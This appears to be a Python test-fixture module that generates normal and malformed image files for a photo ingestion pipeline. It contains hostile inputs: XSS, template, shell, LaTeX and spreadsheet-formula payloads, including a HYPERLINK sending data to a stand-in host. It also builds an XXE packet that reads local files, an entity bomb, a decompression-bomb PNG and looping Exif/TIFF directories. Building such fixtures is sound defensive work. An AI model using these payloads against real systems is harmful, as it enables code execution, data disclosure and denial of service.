"""Bytes of good pictures and of bad ones: every kind that a supplier's folder may hold."""

import functools
import struct
import zlib

import cv2
import numpy as np
from making_files import exif_block, ratio_field, save, short_field, text_field, with_exif, with_segment
from PIL import Image, ImageCms

SIDE = 200  # px; large enough to be measured, small enough for hundreds

# Text that is dangerous where it is not taken as text: pages, templates, LaTeX, shells, terminals, spreadsheets.
TEXTS = {
    "html": "<script>window.hacked=1;document.title='hacked'</script><img src=x onerror=\"window.hacked=1\">",
    "attribute": "\" onmouseover=\"window.hacked=1\" autofocus onfocus=\"window.hacked=1\" x=\"",
    "closing": "</td></table></script></style></textarea><svg onload=window.hacked=1>",
    "template": "{{7*191}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}${7*191}",
    "formula": "=HYPERLINK(\"http://canary.invalid/\"&A1,\"x\")",
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "terminal": "\x1b]0;hacked\x07\x1b[2J\x1b[31mred\x1b[0m\x9b31m",
    "latex": "\\input{/etc/passwd}\\write18{touch hacked}$\\int$",
    "markdown": "[x](javascript:window.hacked=1) ![](http://canary.invalid/x.png) | a | b |",
    "shell": "$(touch hacked) `touch hacked`; touch hacked & \\x00",
    "format": "%s%n%x {0.__class__} {sku} %(sku)s",
    "rtl": "bag\u202egpj.exe\u2066\u200b",
}


@functools.cache
def bag(seed=0, width=SIDE, height=SIDE, shift=0):
    """A bag on a light backdrop, (height, width, 3) uint8; `seed` gives its colour and grain."""
    random = np.random.default_rng(seed)
    picture = np.full((height, width, 3), 236.0)
    picture -= np.linspace(0, 8, height)[:, None, None]
    colour = 50 + 120 * random.random(3)
    left, right = int(width * 0.25) + shift, int(width * 0.75) + shift
    cv2.ellipse(picture, ((left + right) // 2, int(height * 0.45)), (width // 7, height // 5), 0, 180, 360, colour.tolist(), 4)
    cv2.rectangle(picture, (left, int(height * 0.45)), (right, int(height * 0.85)), colour.tolist(), -1)
    cv2.rectangle(picture, (left + 12, int(height * 0.55)), (left + 30, int(height * 0.62)), (230, 200, 90), -1)
    picture += random.normal(0, 1.5, picture.shape)
    return np.clip(np.rint(picture), 0, 255).astype(np.uint8)


@functools.cache
def jpeg(seed=0, **options):
    """Bytes of a JPEG of a bag."""
    return save(bag(seed), "JPEG", **({"quality": 92} | options))


def photograph(seed=0, minute=0, **fields):
    """Bytes of a JPEG with the Exif a camera writes; `fields` replaces make, model or artist."""
    main = [
        text_field(0x10F, fields.get("make", "Examplecam")),
        text_field(0x110, fields.get("model", "EX-1")),
        text_field(0x13B, fields.get("artist", "")),
        text_field(0x10E, fields.get("description", "")),
    ]
    exif = [
        ratio_field(0x829A, (1, 125)),
        ratio_field(0x829D, (80, 10)),
        short_field(0x8827, 100),
        text_field(0x9003, f"2026:03:02 10:{minute:02d}:00"),
        ratio_field(0x920A, (85, 1)),
    ]
    return with_exif(jpeg(seed), exif_block(main, exif, gps=fields.get("gps", ())))


def png_chunk(kind, body):
    """One chunk with its checksum."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width, height, colour_type=2, depth=8, body=b"", extra=b""):
    """A PNG that declares any size, whatever its data hold."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    chunks = png_chunk(b"IHDR", head) + extra + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def jpeg_of_size(width, height):
    """A JPEG whose frame header claims a size."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def overwritten(data, first=0.4, size=400, seed=7):
    """`data` with a run of random bytes in the middle."""
    at = int(len(data) * first)
    noise = np.random.default_rng(seed).integers(0, 256, size, dtype=np.uint8).tobytes()
    return data[:at] + noise + data[at + size :]


def with_field(tag, kind, count, raw, place="main"):
    """A JPEG with one Exif field of any kind, count and bytes."""
    return with_exif(jpeg(), exif_block(**{place: [(tag, kind, count, raw)]}))


def with_xmp(text):
    """A JPEG with an XMP packet."""
    return with_segment(jpeg(), 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + text.encode())


def with_icc(profile):
    """A JPEG with a colour profile, whatever it holds."""
    return with_segment(jpeg(), 0xE2, b"ICC_PROFILE\0\x01\x01" + profile)


def srgb_profile(**changes):
    """An sRGB profile with header fields replaced: `kind` (class) or `space`."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    profile[24:36] = bytes(12)  # the second it was made in (ICC.1, 7.2.8): the same file at any time
    if "kind" in changes:
        profile[12:16] = changes["kind"]
    if "space" in changes:
        profile[16:20] = changes["space"]
    return bytes(profile)


def entity_bomb():
    """XMP that would grow to gigabytes."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "bombbombbomb">{levels}]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a9;</x:xmpmeta>'


def external_entity(path):
    """XMP that asks for a file of the machine."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{path}">]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq><rdf:li>&e;</rdf:li></rdf:Seq>'
        "</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
    )


def many_scans(repeats):
    """A progressive JPEG whose last scan comes again and again."""
    data = jpeg(progressive=True)
    at = data.rindex(b"\xff\xda")
    tables = data.rindex(b"\xff\xc4", 0, at) if b"\xff\xc4" in data[at - 200 : at] else at
    scan = data[tables:-2]
    return data[:-2] + scan * repeats + data[-2:]


def arithmetic():
    """A JPEG that says it is coded arithmetically (SOF9, ITU-T T.81 table B.1)."""
    data = bytearray(jpeg())
    data[data.index(b"\xff\xc0") + 1] = 0xC9
    return bytes(data)


def exif_loop(back_to):
    """An Exif block whose directory points back: the next directory (`back_to` 'next') or the Exif one ('exif')."""
    head = b"II*\0" + struct.pack("<I", 8)
    if back_to == "next":
        return head + struct.pack("<HHHII", 1, 0x10F, 2, 4, 0x41414100) + struct.pack("<I", 8)
    return head + struct.pack("<HHHII", 1, 0x8769, 4, 1, 8) + struct.pack("<I", 0)


def tiff_loop():
    """A TIFF whose next directory is itself."""
    data = bytearray(save(bag(), "TIFF"))
    at = struct.unpack("<I", data[4:8])[0]
    entries = struct.unpack("<H", data[at : at + 2])[0]
    data[at + 2 + 12 * entries : at + 6 + 12 * entries] = struct.pack("<I", at)
    return bytes(data)


def tiff_of(array, photometric=2, samples=1, planes=1, orientation=1, extra=()):
    """An uncompressed TIFF of any kind of numbers (TIFF 6.0): (height, width, channels), or channels first in planes; what `extra` channels are."""
    height, width, channels = array.shape if planes == 1 else (*array.shape[1:], array.shape[0])
    strips = channels if planes == 2 else 1
    fields = [(256, 4, (width,)), (257, 4, (height,)), (258, 3, (8 * array.itemsize,) * channels), (259, 3, (1,)), (262, 3, (photometric,))]
    fields += [(274, 3, (orientation,)), (277, 3, (channels,)), (278, 4, (height,)), (284, 3, (planes,)), (339, 3, (samples,) * channels)]
    fields += [(338, 3, tuple(extra))] if extra else []
    tail, entries = b"", []
    place = 8 + 2 + 12 * (len(fields) + 2) + 4
    start = place + 16 * channels + 16 * strips
    size = array.nbytes // strips
    for tag, kind, values in sorted([*fields, (273, 4, tuple(start + size * n for n in range(strips))), (279, 4, (size,) * strips)]):
        body = struct.pack(f"<{len(values)}{'HI'[kind == 4]}", *values)
        entries.append(struct.pack("<HHI", tag, kind, len(values)) + (body.ljust(4, b"\0") if len(body) <= 4 else struct.pack("<I", place + len(tail))))
        tail += body if len(body) > 4 else b""
    head = b"II*\0" + struct.pack("<IH", 8, len(entries)) + b"".join(entries) + bytes(4) + tail
    return head.ljust(start, b"\0") + np.ascontiguousarray(array).tobytes()


def frames_of(format, number=3, **options):  # noqa: A002 - as Pillow names it
    """A file of several pictures."""
    first, *rest = (Image.fromarray(bag(seed)) for seed in range(number))
    return save(first, format, save_all=True, append_images=rest, **options)


def transparent(mode="RGBA"):
    """A PNG that is clear over loud hidden colour around the bag."""
    pixels = bag()
    shown = (pixels.mean(axis=2) < 200).astype(np.uint8) * 255
    hidden = np.where(shown[..., None] > 0, pixels, (255, 0, 255)).astype(np.uint8)
    if mode == "LA":
        return save(Image.merge("LA", [Image.fromarray(hidden[..., 1]), Image.fromarray(shown)]), "PNG")
    return save(np.dstack([hidden, shown]), "PNG")


def sixteen_bit(format):  # noqa: A002
    """16 bits a channel, PNG or TIFF."""
    ok, data = cv2.imencode(f".{format}", bag().astype(np.uint16) * 257)
    assert ok
    return data.tobytes()


@functools.cache
def slow_png():
    """A picture of 77 million pixels in a small file: more than a second's work and some hundred megabytes."""
    rows = zlib.compress((b"\0" + b"\xc8" * 26_400) * 8_800, 1)
    return png(8_800, 8_800, body=rows)
